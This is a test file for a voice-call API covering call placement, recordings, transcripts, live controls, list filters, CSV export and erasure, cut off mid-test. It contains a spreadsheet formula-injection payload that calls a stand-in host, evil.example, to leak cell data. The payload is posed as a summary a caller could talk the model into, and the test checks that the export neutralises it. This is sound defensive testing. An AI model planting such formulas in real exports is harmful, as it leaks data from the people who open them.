// The calls API (endpoints 45–56) over real simulated calls: placing them (and the checks before),
// what a finished call shows (detail, transcript, timeline, stereo recording, MP3, ranges), live
// controls, list filters, CSV export and erasure. The calls run concurrently, started in beforeAll.
import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { eq } from "drizzle-orm";
import { existsSync } from "node:fs";
import { join } from "node:path";
import { MPEGDecoder } from "mpg123-decoder";
import { calls as callsTable } from "../../src/db/schema/index.ts";
import { fileStore } from "../../src/files/file-store.ts";
import { csvCell } from "../../src/lib/csv.ts";
import { decodeWav } from "../../src/voice/media/wav-format.ts";
import { offlineRecognition } from "../../src/voice/speech/engines.ts";
import { channelRms, fetchBytes, parseCsv, waitForCall } from "../helpers/call-api.ts";
import { startFakeOpenAI, type FakeOpenAI } from "../helpers/fake-openai.ts";
import { registerUser, serverWithUser, type RegisteredUser } from "../helpers/fixtures.ts";
import { ON_POSTGRES } from "../helpers/server.ts";

const s = serverWithUser("calls");
const opts = () => ({ token: s.user.token });
const CALL_TIMEOUT = 45_000;

const N1 = "+14155550120"; // agent A's number
const N2 = "+13035550130"; // agent C's number
const N3 = "+12065550140"; // the LLM agent's number
const METADATA = { crm_id: "c-1", note: 'VIP, "gold"\nsecond line' };
const INJECTED_SUMMARY = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';

let llm: FakeOpenAI;
let t0 = 0;
const agents = {} as { a: string; c: string; llm: string };
const ids = {} as { done: string; busy: string; noAnswer: string; hangUp: string; live: string; llm: string; later: string };

async function post(path: string, body: unknown) {
  const res = await s.server.api.post(path, body, opts());
  if (res.status !== 201 && res.status !== 200) throw new Error(`${path}: ${res.status} ${res.text}`);
  return res.body;
}

async function agentWithNumber(body: Record<string, unknown>, number: string): Promise<string> {
  const agent = await post("/v1/agents", body);
  const bought = await post("/v1/phone-numbers/buy", { number });
  await post(`/v1/phone-numbers/${bought.id}/assign`, { agent_id: agent.id });
  return agent.id;
}

async function place(agentId: string, to: string, extra: Record<string, unknown> = {}): Promise<string> {
  const call = await post("/v1/calls/outbound", { agent_id: agentId, to, ...extra });
  return call.id;
}

const finished = (id: string) => waitForCall(s.server.api, s.user.token, id);

beforeAll(async () => {
  llm = startFakeOpenAI();
  // The conversation gets a short answer; the after-call extraction gets a summary a caller could have
  // talked the model into: it starts like a spreadsheet formula.
  llm.script((body) => (body.response_format ? { text: [JSON.stringify({ summary: INJECTED_SUMMARY })] } : { text: ["Sure, how can I help?"] }));
  const provider = await post("/v1/providers", { name: "LLM", kind: "openai-compatible", base_url: llm.url });
  agents.a = await agentWithNumber({ name: "Front desk" }, N1);
  agents.c = await agentWithNumber({ name: "Night line" }, N2);
  agents.llm = await agentWithNumber({ name: "Model", first_message: "Hi, Acme here.", system_prompt: "Be brief.", brain: { type: "llm", provider_id: provider.id, model: "fake-chat" } }, N3);

  t0 = s.server.clock.now();
  [ids.done, ids.busy, ids.noAnswer, ids.hangUp, ids.live, ids.llm] = await Promise.all([
    place(agents.a, "+12125550150", { metadata: METADATA, variables: { name: "Ada" }, simulation: { lines: ["Hello", "Thanks, goodbye"], recognition: "simulated" } }),
    // The destination alone picks the behaviour: ...01 busy, ...02 no answer, ...04 hangs up.
    place(agents.a, "+12125550101"),
    place(agents.a, "+12125550102"),
    place(agents.a, "+12125550104"),
    place(agents.a, "+12125550160", { simulation: { ring_ms: 0 } }),
    place(agents.llm, "+12125550161", { simulation: { ring_ms: 0, lines: ["Hello"], hang_up_after_ms: 9000, recognition: "simulated" } }),
  ]);
  // A minute later (the test clock only moves when told), on the other agent's number.
  s.server.clock.advance(60_000);
  ids.later = await place(agents.c, "+16175550101");
});

afterAll(() => llm?.stop());

describe("placing a call", () => {
  let other: RegisteredUser;
  const as = () => ({ token: other.token });
  const outbound = (body: Record<string, unknown>) => s.server.api.post("/v1/calls/outbound", body, as());
  const fields = (res: { body: any }) => (res.body.errors ?? []).map((e: { field: string }) => e.field);

  beforeAll(async () => {
    other = await registerUser(s.server.api, "validation"); // its own workspace: these calls stay out of the lists below
  });

  test("a valid request is 201 queued with what was asked; it then runs", async () => {
    const agent = await s.server.api.post("/v1/agents", { name: "V" }, as());
    const number = await s.server.api.post("/v1/phone-numbers/buy", { number: "+15125550170" }, as());
    await s.server.api.post(`/v1/phone-numbers/${number.body.id}/assign`, { agent_id: agent.body.id }, as());
    const res = await outbound({ agent_id: agent.body.id, to: "+12125550150", variables: { plan: "gold" }, metadata: { ref: 7 }, simulation: { behaviour: "busy" } });
    expect(res.status).toBe(201);
    const id = res.body.id;
    expect(res.body.call_id).toBe(id);
    expect(res.body).toMatchObject({
      id: expect.stringMatching(/^call_/),
      object: "call",
      status: "queued",
      direction: "outbound",
      agent_id: agent.body.id,
      agent_version: 1,
      from: "+15125550170",
      to: "+12125550150",
      phone_number_id: number.body.id,
      carrier: "simulated",
      variables: { plan: "gold" },
      metadata: { ref: 7 },
      transcript: null,
      recording_url: null,
      end_reason: null,
      duration_ms: null,
    });
    // `simulation.behaviour` wins over the destination's default (answer).
    const ended = await waitForCall(s.server.api, other.token, id);
    expect(ended).toMatchObject({ status: "busy", end_reason: "busy" });
  }, CALL_TIMEOUT);

  test("request errors name the field (422)", async () => {
    const agent = await s.server.api.post("/v1/agents", { name: "W" }, as());
    const bad = async (body: Record<string, unknown>, field: string) => {
      const res = await outbound({ agent_id: agent.body.id, to: "+12125550150", ...body });
      expect(res.status).toBe(422);
      expect(res.body.code).toBe("validation_failed");
      expect(fields(res)).toContain(field);
    };
    await bad({ to: "12125550150" }, "to");
    await bad({ to: "+0123456789" }, "to");
    await bad({ to: undefined }, "to");
    await bad({ agent_id: "agent_nope" }, "agent_id");
    await bad({ agent_id: undefined }, "agent_id");
    await bad({ from: "+14155550199" }, "from"); // nobody's
    await bad({ from: N1 }, "from"); // another workspace's
    await bad({ from: "n/a" }, "from");
    await bad({ variables: "plan=gold" }, "variables");
    await bad({ simulation: { behaviour: "explode" } }, "simulation.behaviour");
    await bad({ simulation: { ring_ms: -1 } }, "simulation.ring_ms");
    await bad({ simulation: { colour: "red" } }, "simulation.colour");
    await bad({ simulation: { digits: "12ab" } }, "simulation.digits");
    await bad({ simulation: { recognition: "telepathy" } }, "simulation.recognition");
    await bad({ surprise: true }, "surprise");
    // Checked once the call could otherwise go: the callee's voice must exist.
    const number = await s.server.api.post("/v1/phone-numbers/buy", { number: "+15125550171" }, as());
    await bad({ from: number.body.number, simulation: { voice: "hal9000" } }, "simulation.voice");
  });

  test("an agent that cannot call is 409: no number, or what it cannot do in errors[]", async () => {
    const noNumber = await s.server.api.post("/v1/agents", { name: "Numberless" }, as());
    const res = await outbound({ agent_id: noNumber.body.id, to: "+12125550150" });
    expect(res.status).toBe(409);
    expect(res.body).toMatchObject({ code: "agent_not_ready", status: 409 });
    expect(res.body.detail).toContain("phone number");

    const from = (await s.server.api.post("/v1/phone-numbers/buy", { number: "+15125550172" }, as())).body.number;
    // A voice the built-in engine does not have.
    const mute = await s.server.api.post("/v1/agents", { name: "Mute", voice: { provider_id: "builtin", voice_id: "hal9000" } }, as());
    const muted = await outbound({ agent_id: mute.body.id, to: "+12125550150", from });
    expect(muted.status).toBe(409);
    expect(muted.body.errors).toEqual([{ field: "voice.voice_id", message: expect.stringContaining("hal9000") }]);
    expect(muted.body.detail).toContain("voice.voice_id");

    // An llm agent with nothing to open with.
    const provider = await s.server.api.post("/v1/providers", { name: "LLM", kind: "openai-compatible", base_url: "http://127.0.0.1:9/v1" }, as());
    const brain = { type: "llm", provider_id: provider.body.id, model: "m" };
    const speechless = await s.server.api.post("/v1/agents", { name: "Speechless", brain }, as());
    expect(fields(await outbound({ agent_id: speechless.body.id, to: "+12125550150", from }))).toEqual(["first_message"]);

    // Its language-model connection removed behind the API's back (a restored backup, a manual
    // edit): the check before dialling is the last line of defence. Several problems at once.
    const orphan = await s.server.api.post("/v1/agents", { name: "Orphan", first_message: "Hi", brain, voice: { provider_id: "builtin", voice_id: "nobody" } }, as());
    await s.server.api.delete(`/v1/agents/${speechless.body.id}`, as());
    s.server.ctx.sqlite.prepare("DELETE FROM provider_connections WHERE id = ?").run(provider.body.id);
    const orphaned = await outbound({ agent_id: orphan.body.id, to: "+12125550150", from });
    expect(orphaned.status).toBe(409);
    expect(fields(orphaned)).toEqual(["brain.provider_id", "voice.voice_id"]);
    expect(orphaned.body.errors[0].message).toContain("no longer exists");
  });

  test("the offline recogniser is needed only when the call asks for the agent's own ears", async () => {
    const agent = await s.server.api.post("/v1/agents", { name: "Listener" }, as());
    const from = (await s.server.api.post("/v1/phone-numbers/buy", { number: "+15125550173" }, as())).body.number;
    const res = await outbound({ agent_id: agent.body.id, to: "+12125550101", from, simulation: { recognition: "agent" } });
    if (offlineRecognition().available) {
      expect(res.status).toBe(201);
      await waitForCall(s.server.api, other.token, res.body.id);
    } else {
      expect(res.status).toBe(409);
      expect(fields(res)).toEqual(["transcriber.provider_id"]);
    }
    // Simulated recognition never needs it.
    const simulated = await outbound({ agent_id: agent.body.id, to: "+12125550101", from, simulation: { recognition: "simulated" } });
    expect(simulated.status).toBe(201);
    await waitForCall(s.server.api, other.token, simulated.body.id);
  }, CALL_TIMEOUT);
});

describe("destinations that do not talk", () => {
  test("busy, no answer and hang-up numbers reach their statuses", async () => {
    const [busy, noAnswer, hangUp] = await Promise.all([finished(ids.busy), finished(ids.noAnswer), finished(ids.hangUp)]);
    expect(busy).toMatchObject({ status: "busy", end_reason: "busy", started_at: null, duration_ms: 0, recording_url: null, transcript: null });
    expect(noAnswer).toMatchObject({ status: "no_answer", end_reason: "no_answer", started_at: null, duration_ms: 0, recording_url: null });
    expect(hangUp).toMatchObject({ status: "completed", end_reason: "customer_hangup", recording_url: expect.stringContaining("/recording.mp3") });
    // The callee hangs up 3 s after it answers.
    expect(hangUp.duration_ms).toBeGreaterThanOrEqual(2900);
    expect(hangUp.duration_ms).toBeLessThan(4500);
    const noRecording = await s.server.api.get(`/v1/calls/${ids.busy}/recording`, opts());
    expect(noRecording.status).toBe(404);
    expect(noRecording.body.code).toBe("not_found");
    expect((await s.server.api.get(`/v1/calls/${ids.busy}/transcript`, opts())).body).toEqual({ object: "transcript", call_id: ids.busy, erased: false, turns: [] });
    const statuses = (await s.server.api.get(`/v1/calls/${ids.noAnswer}/events`, opts())).body.data.filter((e: any) => e.type === "status").map((e: any) => e.data.status);
    expect(statuses).toEqual(["queued", "ringing", "no_answer"]);
  }, CALL_TIMEOUT);
});

describe("a completed conversation", () => {
  let call: any;
  beforeAll(async () => {
    call = await finished(ids.done);
  }, CALL_TIMEOUT);

  test("detail: status, reason, times, numbers, transcript and links", () => {
    expect(call).toMatchObject({
      id: ids.done,
      status: "completed",
      end_reason: "agent_hangup",
      direction: "outbound",
      from: N1,
      to: "+12125550150",
      agent_id: agents.a,
      metadata: METADATA,
      variables: { name: "Ada" },
      recording_url: `${s.server.url}/v1/calls/${ids.done}/recording.mp3`,
      transcript_url: `${s.server.url}/v1/calls/${ids.done}/transcript`,
      erased_at: null,
      extracted: {},
    });
    expect(call.duration_ms).toBeGreaterThan(8000);
    expect(call.duration_seconds).toBe(Math.round(call.duration_ms / 1000));
    expect(call.started_at).not.toBeNull();
    expect(call.ended_at).not.toBeNull();
    const caller = call.transcript.filter((t: any) => t.role === "caller").map((t: any) => t.text);
    expect(caller).toEqual(["Hello", "Thanks, goodbye"]);
    expect(call.transcript.at(-1)).toMatchObject({ role: "agent", interrupted: false });
    for (const turn of call.transcript) expect(turn.end_ms).toBeGreaterThan(turn.start_ms);
    expect(call.duration_ms).toBeGreaterThanOrEqual(call.transcript.at(-1).end_ms);
  });

  test("transcript as JSON turns and as text", async () => {
    const json = await s.server.api.get(`/v1/calls/${ids.done}/transcript`, opts());
    expect(json.body).toEqual({ object: "transcript", call_id: ids.done, erased: false, turns: call.transcript });
    const text = await s.server.api.get(`/v1/calls/${ids.done}/transcript?format=text`, opts());
    expect(text.headers.get("content-type")).toStartWith("text/plain");
    expect(text.text).toBe(call.transcript.map((t: any) => `${t.role === "agent" ? "Agent" : "Caller"}: ${t.text}\n`).join(""));
    expect(text.text).toContain("Caller: Thanks, goodbye\n");
    expect((await s.server.api.get(`/v1/calls/${ids.done}/transcript?format=xml`, opts())).status).toBe(422);
  });

  test("timeline: status changes in order, every turn, latencies, extraction", async () => {
    const res = await s.server.api.get(`/v1/calls/${ids.done}/events`, opts());
    expect(res.status).toBe(200);
    const events = res.body.data;
    for (const event of events) {
      expect(event).toEqual({ object: "call_event", type: expect.any(String), offset_ms: expect.any(Number), at: expect.stringMatching(/Z$/), data: expect.any(Object) });
    }
    expect(events.filter((e: any) => e.type === "status").map((e: any) => e.data.status)).toEqual(["queued", "ringing", "in_progress", "completed"]);
    expect(events.find((e: any) => e.type === "status" && e.data.status === "completed").data.end_reason).toBe("agent_hangup");
    expect(events.filter((e: any) => e.type === "turn").map((e: any) => e.data.text)).toEqual(call.transcript.map((t: any) => t.text));
    const latencies = events.filter((e: any) => e.type === "latency");
    expect(latencies.length).toBe(2); // one per caller turn the agent answered
    for (const latency of latencies) {
      expect(latency.data).toMatchObject({ end_to_end_ms: expect.any(Number), perceived_ms: expect.any(Number) });
      expect([300, 600, 1300, 2000]).toContain(latency.data.endpointing_ms);
    }
    expect(events.at(-1).type).toBe("extracted");
  });

  test("recording: stereo 8 kHz WAV, the caller on the left and the agent on the right", async () => {
    const res = await fetchBytes(`${s.server.url}/v1/calls/${ids.done}/recording`, s.user.token);
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toBe("audio/wav");
    expect(res.headers.get("accept-ranges")).toBe("bytes");
    expect(res.headers.get("vary")).toContain("accept");
    expect(Number(res.headers.get("content-length"))).toBe(res.bytes.length);
    const { info, samples } = decodeWav(res.bytes);
    expect(info).toMatchObject({ sampleRate: 8000, channels: 2 });
    expect(Math.abs(info.durationMs - call.duration_ms)).toBeLessThan(500);
    for (const turn of call.transcript) {
      // The middle of each turn, away from where the other side may just have stopped.
      const span = turn.end_ms - turn.start_ms;
      const from = turn.start_ms + span * 0.2;
      const to = turn.end_ms - span * 0.2;
      const left = channelRms(samples, 8000, 0, from, to);
      const right = channelRms(samples, 8000, 1, from, to);
      const [speaker, listener] = turn.role === "caller" ? [left, right] : [right, left];
      expect({ turn: turn.text, loud: speaker > 300, quiet: listener < speaker / 10 }).toEqual({ turn: turn.text, loud: true, quiet: true });
    }
  });

  test("recording ranges: 206 with Content-Range, suffix ranges, 416 past the end; odd ranges are ignored", async () => {
    const url = `${s.server.url}/v1/calls/${ids.done}/recording`;
    const full = (await fetchBytes(url, s.user.token)).bytes;
    const size = full.length;
    const head = await fetchBytes(url, s.user.token, { range: "bytes=0-43" });
    expect(head.status).toBe(206);
    expect(head.headers.get("content-range")).toBe(`bytes 0-43/${size}`);
    expect(head.headers.get("content-length")).toBe("44");
    expect(head.bytes).toEqual(full.subarray(0, 44));
    const open = await fetchBytes(url, s.user.token, { range: `bytes=${size - 10}-` });
    expect(open.status).toBe(206);
    expect(open.bytes).toEqual(full.subarray(size - 10));
    const beyond = await fetchBytes(url, s.user.token, { range: `bytes=${size - 4}-${size + 1000}` });
    expect(beyond.headers.get("content-range")).toBe(`bytes ${size - 4}-${size - 1}/${size}`);
    expect(beyond.bytes).toEqual(full.subarray(size - 4));
    const suffix = await fetchBytes(url, s.user.token, { range: "bytes=-100" });
    expect(suffix.status).toBe(206);
    expect(suffix.headers.get("content-range")).toBe(`bytes ${size - 100}-${size - 1}/${size}`);
    expect(suffix.bytes).toEqual(full.subarray(size - 100));
    for (const range of [`bytes=${size}-`, `bytes=${size + 5}-${size + 9}`, "bytes=-0"]) {
      const unsatisfiable = await fetchBytes(url, s.user.token, { range });
      expect({ range, status: unsatisfiable.status, contentRange: unsatisfiable.headers.get("content-range") }).toEqual({ range, status: 416, contentRange: `bytes */${size}` });
    }
    // Several ranges, a reversed one, another unit: a server may ignore the header (RFC 9110 §14.2).
    for (const range of ["bytes=0-1,4-5", "bytes=9-2", "items=0-3"]) {
      const ignored = await fetchBytes(url, s.user.token, { range });
      expect({ range, status: ignored.status, size: ignored.bytes.length }).toEqual({ range, status: 200, size });
    }
  });

  test("MP3: by Accept or at recording.mp3, made once, cached beside the WAV, same length and channels", async () => {
    const mp3Url = `${s.server.url}/v1/calls/${ids.done}/recording.mp3`;
    // Kept in the instance's file store: the data dir on SQLite, the database on PostgreSQL.
    const store = fileStore(s.server.ctx);
    const wavPath = `recordings/${s.user.workspaceId}/${ids.done}.wav`;
    const mp3Path = wavPath.replace(/\.wav$/, ".mp3");
    expect(await store.exists(wavPath)).toBe(true);
    expect(await store.exists(mp3Path)).toBe(false);
    // Three players ask at once for an MP3 not made yet: each gets the whole, same file.
    const first = await Promise.all([fetchBytes(mp3Url, s.user.token), fetchBytes(mp3Url, s.user.token), fetchBytes(mp3Url, s.user.token)]);
    for (const res of first) {
      expect(res.status).toBe(200);
      expect(res.headers.get("content-type")).toBe("audio/mpeg");
      expect(res.bytes).toEqual(first[0].bytes);
    }
    const kept = (await store.open(mp3Path))!;
    expect(new Uint8Array(await new Response(await kept.range(0, kept.size - 1)).arrayBuffer())).toEqual(first[0].bytes);
    if (!ON_POSTGRES) expect(existsSync(join(s.server.ctx.dataDir.root, mp3Path))).toBe(true); // beside the WAV, as before
    const again = await fetchBytes(mp3Url, s.user.token);
    expect(again.bytes).toEqual(first[0].bytes);
    const negotiated = await fetchBytes(`${s.server.url}/v1/calls/${ids.done}/recording`, s.user.token, { accept: "audio/mpeg" });
    expect(negotiated.headers.get("content-type")).toBe("audio/mpeg");
    expect(negotiated.headers.get("vary")).toContain("accept");
    expect(negotiated.bytes).toEqual(first[0].bytes);
    const ranged = await fetchBytes(mp3Url, s.user.token, { range: "bytes=0-9" });
    expect(ranged.status).toBe(206);
    expect(ranged.bytes).toEqual(first[0].bytes.subarray(0, 10));

    const decoder = new MPEGDecoder();
    await decoder.ready;
    const decoded = decoder.decode(first[0].bytes);
    decoder.free();
    expect(decoded.errors).toEqual([]);
    expect(decoded.sampleRate).toBe(8000);
    expect(Math.abs((decoded.samplesDecoded / 8000) * 1000 - call.duration_ms)).toBeLessThan(400);
    // The agent's longest turn is on the right channel in the MP3 too.
    const turn = call.transcript.filter((t: any) => t.role === "agent").sort((a: any, b: any) => b.end_ms - b.start_ms - (a.end_ms - a.start_ms))[0];
    const energy = (channel: Float32Array) => channel.subarray(turn.start_ms * 8 + 800, turn.end_ms * 8 - 800).reduce((sum, v) => sum + v * v, 0);
    expect(energy(decoded.channelData[1])).toBeGreaterThan(20 * energy(decoded.channelData[0]));
  });

  test("live-call controls are 409 once the call has ended", async () => {
    for (const [path, body] of [
      ["hangup", undefined],
      ["say", { text: "Hello?" }],
      ["transfer", { to: "+15550001111" }],
    ] as const) {
      const res = await s.server.api.post(`/v1/calls/${ids.done}/${path}`, body, opts());
      expect({ path, status: res.status, code: res.body.code }).toEqual({ path, status: 409, code: "invalid_state" });
      expect(res.body.detail).toContain("completed");
    }
    expect((await s.server.api.post("/v1/calls/call_nope/hangup", undefined, opts())).status).toBe(404);
  });
});

describe("a live call", () => {
  test("say and hang up while it is in progress; it cannot be erased until it ends", async () => {
    await waitForCall(s.server.api, s.user.token, ids.live, (c) => c.status === "in_progress", 10_000);
    const said = await s.server.api.post(`/v1/calls/${ids.live}/say`, { text: "Please hold the line." }, opts());
    expect(said.status).toBe(202);
    expect(said.body).toEqual({ status: "accepted" });
    expect((await s.server.api.post(`/v1/calls/${ids.live}/say`, { text: "" }, opts())).status).toBe(422);
    expect((await s.server.api.post(`/v1/calls/${ids.live}/transfer`, { to: "front desk" }, opts())).status).toBe(422);
    const erase = await s.server.api.delete(`/v1/calls/${ids.live}`, opts());
    expect(erase.status).toBe(409);
    expect(erase.body.code).toBe("invalid_state");
    expect((await s.server.api.get(`/v1/calls/${ids.live}/recording`, opts())).status).toBe(404);
    // The agent speaks it: the turn appears once it has been played.
    await waitForCall(s.server.api, s.user.token, ids.live, (c) => (c.transcript ?? []).some((t: any) => t.text === "Please hold the line."), 10_000);

    const hungUp = await s.server.api.post(`/v1/calls/${ids.live}/hangup`, undefined, opts());
    expect(hungUp.status).toBe(202);
    expect(hungUp.body.id).toBe(ids.live);
    const ended = await finished(ids.live);
    expect(ended).toMatchObject({ status: "completed", end_reason: "agent_hangup" });
    const events = (await s.server.api.get(`/v1/calls/${ids.live}/events`, opts())).body.data;
    expect(events.find((e: any) => e.type === "say").data).toEqual({ text: "Please hold the line." });
    expect((await s.server.api.post(`/v1/calls/${ids.live}/hangup`, undefined, opts())).status).toBe(409);
  }, CALL_TIMEOUT);
});

describe("lists", () => {
  const list = async (query: string) => {
    const res = await s.server.api.get(`/v1/calls?${query}`, opts());
    expect(res.status).toBe(200);
    return res.body;
  };
  const idsOf = async (query: string) => new Set<string>((await list(`limit=100&${query}`)).data.map((c: { id: string }) => c.id));

  beforeAll(async () => {
    await Promise.all(Object.values(ids).map(finished));
  }, CALL_TIMEOUT);

  test("filters: status, direction, agent, number, time window, and their combination", async () => {
    const all = Object.values(ids);
    expect(await idsOf("")).toEqual(new Set(all));
    expect(await idsOf("status=busy")).toEqual(new Set([ids.busy, ids.later]));
    expect(await idsOf("status=completed")).toEqual(new Set([ids.done, ids.hangUp, ids.live, ids.llm]));
    expect(await idsOf("status=no_answer")).toEqual(new Set([ids.noAnswer]));
    expect(await idsOf("direction=outbound")).toEqual(new Set(all));
    expect(await idsOf("direction=inbound")).toEqual(new Set());
    expect(await idsOf(`agent_id=${agents.c}`)).toEqual(new Set([ids.later]));
    expect(await idsOf(`agent_id=${agents.a}&status=busy`)).toEqual(new Set([ids.busy]));
    expect(await idsOf(`number=${encodeURIComponent(N2)}`)).toEqual(new Set([ids.later]));
    expect(await idsOf(`number=${encodeURIComponent("+16175550101")}`)).toEqual(new Set([ids.later]));
    expect(await idsOf(`number=${encodeURIComponent(N1)}`)).toEqual(new Set([ids.done, ids.busy, ids.noAnswer, ids.hangUp, ids.live]));
    const mid = new Date(t0 + 30_000).toISOString();
    expect(await idsOf(`from=${mid}`)).toEqual(new Set([ids.later]));
    expect(await idsOf(`to=${mid}`)).toEqual(new Set(all.filter((id) => id !== ids.later)));
    // `from` is inclusive, `to` exclusive.
    expect(await idsOf(`from=${new Date(t0).toISOString()}&to=${new Date(t0 + 1).toISOString()}`)).toEqual(new Set(all.filter((id) => id !== ids.later)));
    expect(await idsOf(`to=${new Date(t0).toISOString()}`)).toEqual(new Set());
  });

  test("cursor pagination walks every call once, newest first, filters kept", async () => {
    const seen: string[] = [];
    let cursor: string | null = null;
    let pages = 0;
    do {
      const page: any = await list(`limit=3${cursor ? `&cursor=${cursor}` : ""}`);
      pages++;
      expect(page.data.length).toBeLessThanOrEqual(3);
      expect(page.has_more).toBe(page.next_cursor !== null);
      seen.push(...page.data.map((c: { id: string }) => c.id));
      cursor = page.next_cursor;
    } while (cursor);
    expect(pages).toBe(3);
    expect(seen).toHaveLength(7);
    expect(new Set(seen)).toEqual(new Set(Object.values(ids)));
    expect(seen[0]).toBe(ids.later);
    const completed: string[] = [];
    cursor = null;
    do {
      const page: any = await list(`status=completed&limit=1${cursor ? `&cursor=${cursor}` : ""}`);
      completed.push(...page.data.map((c: { id: string }) => c.id));
      cursor = page.next_cursor;
    } while (cursor);
    expect(new Set(completed)).toEqual(new Set([ids.done, ids.hangUp, ids.live, ids.llm]));
    expect(completed).toHaveLength(4);
  });

  test("bad filters are 422 naming the parameter", async () => {
    for (const [query, field] of [
      ["status=ringingg", "status"],
      ["direction=sideways", "direction"],
      ["from=yesterday", "from"],
      ["to=2026-13-45T99:00:00Z", "to"],
      ["cursor=not-a-cursor", "cursor"],
      ["limit=101", "limit"],
    ]) {
      const res = await s.server.api.get(`/v1/calls?${query}`, opts());
      expect({ query, status: res.status, fields: res.body.errors?.map((e: { field: string }) => e.field) }).toEqual({ query, status: 422, fields: [field] });
    }
  });
});

describe("CSV export", () => {
  const COLUMNS = ["call_id", "created_at", "direction", "agent_id", "from", "to", "status", "end_reason", "duration_seconds", "started_at", "ended_at", "summary", "extracted", "metadata"];
  const exportCsv = async (query = "", token = s.user.token) => {
    const res = await fetch(`${s.server.url}/v1/calls/export${query}`, { headers: { authorization: `Bearer ${token}` } });
    return { res, text: await res.text() };
  };

  beforeAll(async () => {
    await Promise.all(Object.values(ids).map(finished));
  }, CALL_TIMEOUT);

  test("a header and one row per call, quoted where needed, formulas neutralised, streamed as an attachment", async () => {
    const { res, text } = await exportCsv();
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(res.headers.get("content-disposition")).toBe(`attachment; filename="calls-${new Date(s.server.clock.now()).toISOString().slice(0, 10)}.csv"`);
    expect(res.headers.get("content-length")).toBeNull(); // streamed, not built first
    const [header, ...rows] = parseCsv(text);
    expect(header).toEqual(COLUMNS);
    expect(rows).toHaveLength(7);
    for (const row of rows) expect(row).toHaveLength(COLUMNS.length);
    const byId = new Map(rows.map((row) => [row[0], Object.fromEntries(COLUMNS.map((c, i) => [c, row[i]]))]));
    expect(new Set(byId.keys())).toEqual(new Set(Object.values(ids)));
    expect(rows.at(-1)![0]).toBe(ids.later); // oldest first

    const done = byId.get(ids.done)!;
    const detail = (await s.server.api.get(`/v1/calls/${ids.done}`, opts())).body;
    expect(done).toMatchObject({ direction: "outbound", agent_id: agents.a, status: "completed", end_reason: "agent_hangup", duration_seconds: String(detail.duration_seconds) });
    // Phone numbers are plain numbers, not formulas: left as they are.
    expect(done.from).toBe(N1);
    expect(done.to).toBe("+12125550150");
    expect(done.created_at).toBe(detail.created_at);
    expect(JSON.parse(done.metadata)).toEqual(METADATA); // commas, quotes and a line break survive the quoting
    expect(text).toContain('"{""crm_id"":""c-1"",""note"":""VIP, \\""gold\\""\\nsecond line""}"');
    expect(byId.get(ids.busy)).toMatchObject({ started_at: "", ended_at: expect.stringMatching(/Z$/), duration_seconds: "0" });

    // The model's summary began with "=": a spreadsheet must see text, not a formula.
    const llmRow = byId.get(ids.llm)!;
    expect(llmRow.summary).toBe(`'${INJECTED_SUMMARY}`);
    expect(text).not.toMatch(/(^|,)=HYPERLINK/m);
  });

  test("filters apply to the export", async () => {
    const busy = parseCsv((await exportCsv("?status=busy")).text).slice(1);
    expect(new Set(busy.map((row) => row[0]))).toEqual(new Set([ids.busy, ids.later]));
    const night = parseCsv((await exportCsv(`?agent_id=${agents.c}`)).text).slice(1);
    expect(night.map((row) => row[0])).toEqual([ids.later]);
    const none = await exportCsv("?direction=inbound");
    expect(parseCsv(none.text)).toEqual([COLUMNS]);
    const bad = await exportCsv("?from=yesterday");
    expect(bad.res.status).toBe(422);
    expect(JSON.parse(bad.text).errors[0].field).toBe("from");
  });

  test("cells that start like formulas are prefixed; plain numbers and other text are not", () => {
    for (const lead of ["=", "+", "-", "@", "\t", "\r"]) expect(csvCell(`${lead}SUM(A1:A9)`).replace(/^"/, "")).toStartWith(`'${lead}`);
    expect(csvCell("=1+2")).toBe("'=1+2");
    expect(csvCell("@cmd")).toBe("'@cmd");
    expect(csvCell("-2+3")).toBe("'-2+3");
    expect(csvCell("+1 (415) 555-0100")).toBe("'+1 (415) 555-0100");
    expect(csvCell("\t=1")).toBe("'\t=1");
    expect(csvCell("\r=1")).toBe("\"'\r=1\"");
    expect(csvCell("+14155550100")).toBe("+14155550100");
    expect(csvCell("-12.5")).toBe("-12.5");
    expect(csvCell(-3)).toBe("-3");
    expect(csvCell("a=b")).toBe("a=b");
    expect(csvCell('say "hi", then go')).toBe('"say ""hi"", then go"');
    expect(csvCell("two\nlines")).toBe('"two\nlines"');
    expect(csvCell(null)).toBe("");
    expect(csvCell({ a: 1 })).toBe('"{""a"":1}"');
  });

  test("a large export comes out whole across pages, ties on created_at included", async () => {
    const bulk = await registerUser(s.server.api, "bulk");
    const template = s.server.ctx.db.select().from(callsTable).where(eq(callsTable.id, ids.busy)).get()!;
    const base = s.server.clock.now() - 86_400_000;
    // 1203 calls, seven per millisecond, so page boundaries (500) fall inside groups of equal times.
    const rows = Array.from({ length: 1203 }, (_, i) => ({
      ...template,
      id: `call_bulk${String(i).padStart(5, "0")}${Math.random().toString(36).slice(2, 8)}`,
      workspaceId: bulk.workspaceId,
      createdAt: base + Math.floor(i / 7),
      updatedAt: base + Math.floor(i / 7),
    }));
    for (let i = 0; i < rows.length; i += 200) s.server.ctx.db.insert(callsTable).values(rows.slice(i, i + 200)).run();
    const { res, text } = await exportCsv("", bulk.token);
    expect(res.status).toBe(200);
    const exported = parseCsv(text).slice(1).map((row) => row[0]);
    expect(exported).toHaveLength(rows.length);
    const expected = [...rows].sort((a, b) => a.createdAt - b.createdAt || (a.id < b.id ? -1 : 1)).map((r) => r.id);
    expect(exported).toEqual(expected);
  });
});

describe("erasing a call", () => {
  test("removes recording, transcript and extracted data, keeps the row; again is harmless", async () => {
    const before = await finished(ids.done);
    const store = fileStore(s.server.ctx);
    const wavPath = `recordings/${s.user.workspaceId}/${ids.done}.wav`;
    expect(await store.exists(wavPath)).toBe(true);
    const erased = await s.server.api.delete(`/v1/calls/${ids.done}`, opts());
    expect(erased.status).toBe(204);

    const after = (await s.server.api.get(`/v1/calls/${ids.done}`, opts())).body;
    const erasedAt = after.erased_at;
    expect(after).toMatchObject({
      status: "completed",
      end_reason: "agent_hangup",
      duration_ms: before.duration_ms,
      from: N1,
      to: "+12125550150",
      metadata: METADATA,
      transcript: null,
      extracted: null,
      summary: null,
      recording_url: null,
      variables: {},
      erased_at: expect.stringMatching(/Z$/),
    });
    expect(await store.exists(wavPath)).toBe(false);
    expect(await store.exists(wavPath.replace(/\.wav$/, ".mp3"))).toBe(false);
